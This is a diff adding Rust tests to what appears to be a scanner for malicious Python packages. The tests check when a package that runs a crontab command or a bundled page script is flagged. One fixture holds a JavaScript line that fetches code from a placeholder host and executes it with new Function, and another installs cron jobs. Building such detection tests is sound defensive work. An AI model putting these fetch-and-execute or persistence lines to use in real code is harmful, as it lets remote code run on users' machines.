@@ -214,3 +214,27 @@ fn tests_that_the_package_itself_imports_are_part_of_it() {
     found(&with("import subprocess\nfrom .tests import check\n"), "M-02");
     innocent(&with("import subprocess\n"));
 }
+
+const SETUP: (&str, &str) = ("setup.py", "from setuptools import setup\nsetup(name='made-up')\n");
+
+#[track_caller]
+fn lacks(report: &PackageReport, rule: &str) {
+    let is_told = |finding: &&Finding| finding.rule == rule && finding.severity >= Severity::High;
+    assert!(!report.findings.iter().any(|finding| is_told(&finding)), "{:#?}", report.findings);
+}
+
+#[test]
+fn a_program_that_its_user_starts_is_not_imported() {
+    let jobs = "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['crontab', 'jobs'])\n";
+    found(&package(&[SETUP, ("made_up/__init__.py", jobs)]), "P-02");
+    lacks(&package(&[SETUP, ("made_up/__init__.py", "x = 1\n"), ("bin/made-up", jobs)]), "P-02");
+}
+
+#[test]
+fn a_pages_script_in_a_python_package_runs_where_it_is_started() {
+    let page = "fetch('https://files.invalid/x').then(r => r.text()).then(t => new Function(t)());\n";
+    let beside =
+        |module: &str| package(&[SETUP, ("made_up/__init__.py", module), ("made_up/static/page.js", page)]);
+    innocent(&beside("x = 1\n"));
+    found(&beside("import subprocess\nsubprocess.run(['node', 'static/page.js'])\n"), "M-01");
+}
